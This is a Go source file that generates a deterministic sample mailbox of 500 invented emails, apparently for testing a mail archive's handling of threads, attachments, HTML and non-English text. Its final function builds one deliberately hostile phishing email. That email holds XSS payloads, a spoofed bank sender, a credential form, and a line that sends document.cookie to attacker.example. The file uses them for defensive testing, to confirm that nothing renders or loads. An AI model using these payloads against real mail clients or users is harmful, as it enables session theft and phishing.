// Package sample makes a mailbox of invented mail, so that the archive can be
// tried without mail of one's own: threads, attachments, HTML, German and
// Japanese, and one mail that is hostile. The same seed gives the same mail.
package sample

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"iter"
	"math/rand/v2"
	"mime"
	"strings"
	"time"
)

// Mail is one invented message.
type Mail struct {
	Folder string
	Flags  string
	Raw    []byte
}

// Count is how many messages Mailbox makes.
const Count = 500

type person struct{ name, addr string }

var people = []person{
	{"Ada Winter", "ada.winter@example.org"}, {"Bruno Keller", "bruno.keller@example.com"}, {"Clara Nyström", "clara@example.net"}, {"Daichi Mori", "mori@example.jp"},
	{"Elif Aydın", "elif.aydin@example.org"}, {"Franz Müller", "franz.mueller@example.de"}, {"Grace Okoro", "grace@example.com"}, {"Hana Svoboda", "hana@example.net"},
	{"Invoice Desk", "billing@supplier.example"}, {"Build Server", "builds@example.org"}, {"Straßenbau Lüdtke", "kontakt@luedtke.example"}, {"Garden Club", "news@garden.example"},
}

var me = person{"Me", "me@example.org"}

var subjects = []string{
	"Quarterly figures for %s", "Invoice 2026-%04d", "Minutes of the meeting on %s", "Question about order %04d", "Travel plans for %s", "Draft of the contract, version %d", "Photos from the garden day",
	"Build %d failed", "Lunch on %s?", "Offer for new windows", "Delivery note %04d", "Reading list for %s", "Repair of the coffee machine", "Keys for the new office", "Proposal for the archive project",
}

var german = []string{
	"Rechnung Nr. %04d für %s", "Angebot über neue Fenster", "Protokoll der Besprechung", "Grüße aus Köln", "Überweisung bestätigt", "Änderung des Mietvertrags",
}

var sentences = strings.Split(`Thank you for the quick answer.|Please find the figures in the attachment.|The delivery is expected next week.|I have checked the numbers twice and they agree.|Could we meet on Tuesday morning instead?
The supplier has confirmed the order.|We still need a signature on the last page.|The garden looks wonderful after the rain.|Please pay the invoice within thirty days.|The build is green again after the fix.|Nobody has answered so far.
I suggest that we keep the old contract until spring.|The photographs are from last summer.|The meeting room has been moved to the second floor.|Let me know if anything is missing.|The train leaves at half past nine.|The price includes installation and taxes.`, "|")

var saetze = strings.Split(`vielen Dank für die schnelle Antwort.|Die Rechnung ist bis Ende des Monats zu überweisen.|Die Fenster werden am Mittwoch geliefert.|Wir grüßen Sie herzlich aus Köln.|Bitte prüfen Sie die Änderungen im Vertrag.|Die Straße ist bis Freitag gesperrt.|Das Gespräch müssen wir leider verschieben.`, "|")

// Mailbox yields the messages, oldest first, up to the day before now.
func Mailbox(now time.Time) iter.Seq[Mail] {
	return func(yield func(Mail) bool) {
		m := &maker{r: rand.New(rand.NewPCG(2026, 7)), threads: map[string][]string{}}
		start := now.AddDate(-3, 0, 0)
		step := now.Sub(start) / (Count + 1)
		for i := range Count {
			if !yield(m.mail(i, start.Add(time.Duration(i+1)*step).UTC())) {
				return
			}
		}
	}
}

type maker struct {
	r       *rand.Rand
	threads map[string][]string // subject -> Message-IDs
	recent  []string            // subjects that can be answered
}

func (m *maker) pick(s []string) string { return s[m.r.IntN(len(s))] }

func (m *maker) mail(i int, at time.Time) Mail {
	switch {
	case i == Count-3:
		return Mail{"INBOX", "", hostile(at)}
	case i%41 == 17:
		return Mail{"INBOX", `\Seen`, m.japanese(i, at)}
	case i%9 == 4:
		return Mail{"Deutsch", `\Seen`, m.germanMail(i, at)}
	case i%13 == 6:
		return Mail{"INBOX", `\Seen`, m.htmlMail(i, at)}
	case i%7 == 3:
		return Mail{"Orders/2026", `\Seen`, m.withAttachment(i, at)}
	case i%5 == 2 && len(m.recent) > 0:
		return m.reply(i, at)
	}
	subject := m.subject(i, at)
	m.recent = append(m.recent, subject)
	from := people[m.r.IntN(len(people))]
	folder := "INBOX"
	if from.addr == "builds@example.org" {
		folder = "Builds"
	}
	return Mail{folder, `\Seen`, m.compose(i, at, from, me, subject, "", "text/plain; charset=utf-8", m.text(sentences))}
}

func (m *maker) subject(i int, at time.Time) string {
	s := m.pick(subjects)
	switch {
	case strings.Contains(s, "%s"):
		return fmt.Sprintf(s, at.Format("January"))
	case strings.Contains(s, "%"):
		return fmt.Sprintf(s, i)
	}
	return s
}

func (m *maker) text(from []string) string {
	var b strings.Builder
	for range 2 + m.r.IntN(4) {
		for range 1 + m.r.IntN(4) {
			b.WriteString(strings.TrimSpace(m.pick(from)))
			b.WriteByte(' ')
		}
		b.WriteString("\r\n\r\n")
	}
	return b.String()
}

// compose writes a message with CRLF line ends.
func (m *maker) compose(i int, at time.Time, from, to person, subject, refs, kind, body string) []byte {
	id := fmt.Sprintf("<sample-%d@example.org>", i)
	m.threads[subject] = append(m.threads[subject], id)
	var b bytes.Buffer
	address := func(p person) string { return mime.QEncoding.Encode("utf-8", p.name) + " <" + p.addr + ">" }
	fmt.Fprintf(&b, "Received: from mail.example.org (mail.example.org [192.0.2.%d]) by mx.example.org; %s\r\n", i%250+1, at.Format(time.RFC1123Z))
	fmt.Fprintf(&b, "From: %s\r\nTo: %s\r\n", address(from), address(to))
	if i%6 == 1 {
		fmt.Fprintf(&b, "Cc: %s\r\n", address(people[(i+3)%len(people)]))
	}
	fmt.Fprintf(&b, "Subject: %s\r\nDate: %s\r\nMessage-ID: %s\r\n%s", mime.BEncoding.Encode("utf-8", subject), at.Format(time.RFC1123Z), id, refs)
	if from.addr == "news@garden.example" {
		b.WriteString("List-Id: Garden Club <news.garden.example>\r\n")
	}
	fmt.Fprintf(&b, "MIME-Version: 1.0\r\nContent-Type: %s\r\n", kind)
	if !strings.HasPrefix(kind, "multipart/") {
		b.WriteString("Content-Transfer-Encoding: 8bit\r\n")
	}
	b.WriteString("\r\n" + body)
	return b.Bytes()
}

func (m *maker) reply(i int, at time.Time) Mail {
	subject := m.recent[len(m.recent)-1-m.r.IntN(min(len(m.recent), 12))]
	ids := m.threads[subject]
	refs := fmt.Sprintf("In-Reply-To: %s\r\nReferences: %s\r\n", ids[len(ids)-1], strings.Join(ids, " "))
	body := m.text(sentences) + "> " + m.pick(sentences) + "\r\n"
	from, to, folder := people[m.r.IntN(len(people))], me, "INBOX"
	if i%2 == 0 {
		from, to, folder = me, from, "Sent"
	}
	raw := m.compose(i, at, from, to, "Re: "+subject, refs, "text/plain; charset=utf-8", body)
	m.threads[subject] = append(ids, fmt.Sprintf("<sample-%d@example.org>", i))
	return Mail{folder, `\Seen \Answered`, raw}
}

func (m *maker) germanMail(i int, at time.Time) []byte {
	subject := m.pick(german)
	if strings.Contains(subject, "%") {
		subject = fmt.Sprintf(subject, i, at.Format("01/2006"))
	}
	from := people[[]int{5, 10, 1}[m.r.IntN(3)]]
	return m.compose(i, at, from, me, subject, "", "text/plain; charset=utf-8", "Guten Tag,\r\n\r\n"+m.text(saetze)+"Mit freundlichen Grüßen\r\n"+from.name+"\r\n")
}

func (m *maker) japanese(i int, at time.Time) []byte {
	return m.compose(i, at, people[3], me, "東京への出張について", "", "text/plain; charset=utf-8", "お世話になっております。\r\n\r\n来週の東京都への出張の日程をお送りします。会議は月曜日の午後です。\r\n\r\n森\r\n")
}

func (m *maker) htmlMail(i int, at time.Time) []byte {
	text := m.text(sentences)
	page := "<html><body style=\"font-family:sans-serif\"><h2 style=\"color:#1f5f5b\">News</h2><p>" + strings.ReplaceAll(strings.TrimSpace(text), "\r\n\r\n", "</p>\r\n<p>") +
		"</p><p><a href=\"https://www.example.org/news\">Read more</a> <img src=\"https://tracker.example/pixel.gif\" width=1 height=1></p></body></html>\r\n"
	body := "--alt\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" + text + "\r\n--alt\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + page + "--alt--\r\n"
	return m.compose(i, at, people[11], me, "Garden news of "+at.Format("January 2006"), "", `multipart/alternative; boundary="alt"`, body)
}

func (m *maker) withAttachment(i int, at time.Time) []byte {
	data := make([]byte, 3000+m.r.IntN(40_000))
	for k := range data {
		data[k] = byte(m.r.IntN(64)) + 32
	}
	copy(data, "%PDF-1.4\n")
	name := fmt.Sprintf("invoice-2026-%04d.pdf", i)
	if i%3 == 0 { // the same terms go with many mails, and are stored once
		data, name = bytes.Repeat([]byte("General terms and conditions. "), 900), "terms.txt"
	}
	var enc strings.Builder
	text := base64.StdEncoding.EncodeToString(data)
	for len(text) > 76 {
		enc.WriteString(text[:76] + "\r\n")
		text = text[76:]
	}
	enc.WriteString(text + "\r\n")
	kind := "application/pdf"
	if strings.HasSuffix(name, ".txt") {
		kind = "text/plain"
	}
	body := "--mix\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" + m.text(sentences) + "\r\n--mix\r\nContent-Type: " + kind + "; name=\"" + name + "\"\r\nContent-Disposition: attachment; filename=\"" + name +
		"\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + enc.String() + "--mix--\r\n"
	return m.compose(i, at, people[8], me, fmt.Sprintf("Invoice 2026-%04d", i), "", `multipart/mixed; boundary="mix"`, body)
}

// hostile tries what HTML mail can try. Nothing of it may run or load.
func hostile(at time.Time) []byte {
	return []byte("From: \"Your Bank <service@bank.example>\" <x@attacker.example>\r\nTo: Me <me@example.org>\r\nSubject: <script>alert(1)</script> Your account\r\nDate: " + at.Format(time.RFC1123Z) +
		"\r\nMessage-ID: <sample-hostile@attacker.example>\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" +
		`<html><head><meta http-equiv="refresh" content="0;url=https://attacker.example/"><base href="https://attacker.example/"><style>@import url(https://attacker.example/x.css);</style></head>
<body onload="alert(2)"><script>fetch("https://attacker.example/?c="+document.cookie)</script>
<p>Dear customer, please confirm your password at <a href="https://attacker.example/login">www.bank.example</a>.</p>
<img src="https://attacker.example/pixel.gif" onerror="alert(3)"><svg onload="alert(4)"><animate onbegin="alert(5)" attributeName="x"></animate></svg>
<a href="javascript:alert(6)">Click here</a><form action="https://attacker.example/"><input name="password"><button>Sign in</button></form>
<iframe srcdoc="<script>alert(7)</script>"></iframe><div style="position:fixed;inset:0;background:url(https://attacker.example/b.png)">This mail is a sample of a hostile one.</div>
</body></html>` + "\r\n")
}
